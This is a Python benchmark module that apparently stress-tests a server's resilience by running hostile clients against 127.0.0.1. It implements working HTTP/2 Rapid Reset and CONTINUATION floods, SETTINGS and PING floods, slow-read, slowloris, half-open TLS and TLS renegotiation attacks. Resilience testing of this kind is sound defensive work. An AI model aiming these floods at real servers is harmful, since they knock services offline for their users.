"""Hostile clients: `python -m bench.attackers NAME PORT TLS_PORT SHARE` attacks until SIGTERM with at most SHARE of a processor.

Then it prints what it did as one line of JSON.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator

from tests.peers.process import program
from tests.support.http2_wire import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    settings,
)
from tests.support.processes import raise_open_files

SLOW_READERS, STREAMS = 8, 100
# Together fewer than a cluster's breaker lets through: what is looked for is what the streams cost, not that they are refused.
SLOWLORIS = 1000
HALF_OPEN = 10_000
SPARE_FILES = 200
AT_ONCE = 50
BATCH = 500
CANCEL = 8
PAUSE_S = 0.05
ANSWERS_S = 1.0
READ_BYTES = 1 << 16
GREETING = PREFACE + settings({})
# GET http bench, from HPACK's static table (RFC 7541, appendix A) and literals that are not indexed.
REQUEST = b"\x82\x86\x01\x05bench"
ROOT, BIG = b"\x84", b"\x04\x03/1m"

Attack = Iterator[None]


def connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 5)


def flood(port: int, batch: Callable[[int], bytes]) -> Attack:
    """What `batch(turn)` makes, on one HTTP/2 connection after the other, as the node closes them. Nothing is read."""
    while True:
        try:
            with connected(port) as sock:
                # A node that reads no more has had enough: the next connection gets further.
                sock.settimeout(0.1)
                sock.sendall(GREETING)
                turn = 0
                while True:
                    sock.sendall(batch(turn))
                    turn += 1
                    yield
        except OSError:
            yield


def rapid_reset(turn: int) -> bytes:
    """CVE-2023-44487: streams that are reset as soon as they are opened."""
    cancel = struct.pack(">I", CANCEL)
    first = turn * BATCH * 2 + 1
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST + ROOT) + frame(RST_STREAM, 0, stream, cancel)
        for stream in range(first, first + BATCH * 2, 2)
    )


def continuations(turn: int) -> bytes:
    """CVE-2024-27316: a head that never ends."""
    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 50) * BATCH
    return more if turn else frame(HEADERS, END_STREAM, 1, REQUEST + ROOT) + more


def slow_read(port: int) -> Attack:
    """Many streams of a large body each, with windows that open by one byte, twenty times a second, once the answers have begun.

    Before that a node would count the updates as a flood, and be rid of the attack. What comes is read, so that only the windows are slow.
    """
    held = []
    head = PREFACE + settings({INITIAL_WINDOW_SIZE: 0})
    head += b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * at, REQUEST + BIG) for at in range(STREAMS))
    one_byte = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * at, b"\0\0\0\1") for at in range(STREAMS))
    for _ in range(SLOW_READERS):
        held.append(connected(port))
        held[-1].sendall(head)
        yield
    time.sleep(ANSWERS_S)
    while True:
        for sock in held:
            with contextlib.suppress(OSError):
                sock.recv(READ_BYTES, socket.MSG_DONTWAIT)
        yield from _to_each(held, one_byte)


def slowloris(port: int) -> Attack:
    """Heads that come byte by byte."""
    held = []
    for _ in range(SLOWLORIS):
        held.append(connected(port))
        held[-1].sendall(b"GET / HTTP/1.1\r\nHost: bench\r\n")
        yield
    while True:
        yield from _to_each(held, b"x")


def _to_each(held: list[socket.socket], data: bytes) -> Attack:
    """Those that the node has closed are left out from then on."""
    for sock in list(held):
        try:
            sock.setblocking(False)
            sock.send(data)
        except BlockingIOError:
            pass
        except OSError:
            held.remove(sock)
            sock.close()
        yield
    time.sleep(PAUSE_S)
    yield


def half_open(port: int) -> Attack:
    """Connections to a TLS port that say nothing, or the beginning of a hello. All are held."""
    held = []
    for place in range(min(HALF_OPEN, raise_open_files() - SPARE_FILES)):
        try:
            held.append(connected(port))
            held[-1].sendall(b"\x16\x03\x01\x02\x00\x01"[: place % 7])
        except OSError:
            pass
        if place % AT_ONCE == 0:
            yield
    while True:
        time.sleep(PAUSE_S)
        yield


def renegotiate(port: int) -> Attack:
    """TLS 1.2 clients that ask for another handshake on the connection that they have."""
    command = [program("openssl", "openssl"), "s_client", "-connect", f"127.0.0.1:{port}", "-tls1_2"]
    while True:
        subprocess.run(command, input=b"R\nR\nR\n", capture_output=True, timeout=10)
        yield


def attacks(port: int, tls_port: int) -> dict[str, Attack]:
    """By the names of `bench.attacks.ATTACKS`."""
    return {
        "rapid-reset": flood(port, rapid_reset),
        "continuation": flood(port, continuations),
        "settings": flood(port, lambda turn: frame(SETTINGS, 0, 0) * BATCH),
        "ping": flood(port, lambda turn: frame(PING, 0, 0, b"pingping") * BATCH),
        "slow-read": slow_read(port),
        "slowloris": slowloris(port),
        "half-open": half_open(tls_port),
        "renegotiation": renegotiate(tls_port),
    }


def spent_s() -> float:
    """Of this process and of those that it waited for."""
    return sum(os.times()[:4])


def main() -> None:
    name, port, tls_port, share = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    ending: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, frame: ending.append(number))
    began, before, steps = time.monotonic(), spent_s(), 0
    for _ in attacks(port, tls_port)[name]:
        steps += 1
        if ending:
            break
        ahead = (spent_s() - before) / share - (time.monotonic() - began)
        if ahead > 0:
            time.sleep(ahead)
    passed = time.monotonic() - began
    print(json.dumps({"steps": steps, "cpu_share": (spent_s() - before) / passed}))


if __name__ == "__main__":
    main()
